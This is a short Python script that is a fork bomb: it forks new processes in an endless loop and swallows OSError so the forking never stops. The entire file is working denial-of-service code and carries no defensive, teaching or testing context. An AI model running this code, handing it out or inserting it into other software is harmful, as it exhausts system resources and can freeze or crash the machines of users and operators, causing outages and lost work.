# Every process forks two.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
